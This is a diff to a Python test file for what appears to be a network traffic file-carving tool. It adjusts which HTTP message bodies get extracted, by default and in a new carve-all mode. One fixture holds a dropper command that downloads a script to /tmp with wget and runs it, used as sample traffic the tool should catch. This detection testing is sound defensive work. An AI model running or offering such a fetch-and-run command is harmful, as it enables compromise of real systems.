@@ -170,8 +170,8 @@ def _message(
     [
         (_message(b"<!DOCTYPE html><html>"), False),
         (_message(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), False),
-        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), True),  # named: a file whatever it is
-        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), True),
+        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), False),  # named, but no implant: --carve-all
+        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), False),
         (_message(ELF_ARM), True),
         (_message(b"cd /tmp; wget http://x/y; sh y"), True),  # a script without a shebang is text
         (_message(b'{"result": 1}'), True),
@@ -179,4 +179,18 @@ def _message(
 )
 def test_http_bodies_wanted_at_their_first_bytes(message: HttpMessage, wanted: bool) -> None:
     consumer = HttpFileConsumer(None, FileLimits(), Budget(1))  # type: ignore[arg-type]
+    assert consumer.wants_body(None, message) is wanted  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("message", "wanted"),
+    [
+        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), True),  # named: a file whatever it is
+        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), True),
+        (_message(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), False),  # unnamed media: still not
+        (_message(b"<!DOCTYPE html><html>"), False),
+    ],
+)
+def test_carve_all_reads_every_named_transfer(message: HttpMessage, wanted: bool) -> None:
+    consumer = HttpFileConsumer(None, FileLimits(), Budget(1), carve_all=True)  # type: ignore[arg-type]
     assert consumer.wants_body(None, message) is wanted  # type: ignore[arg-type]
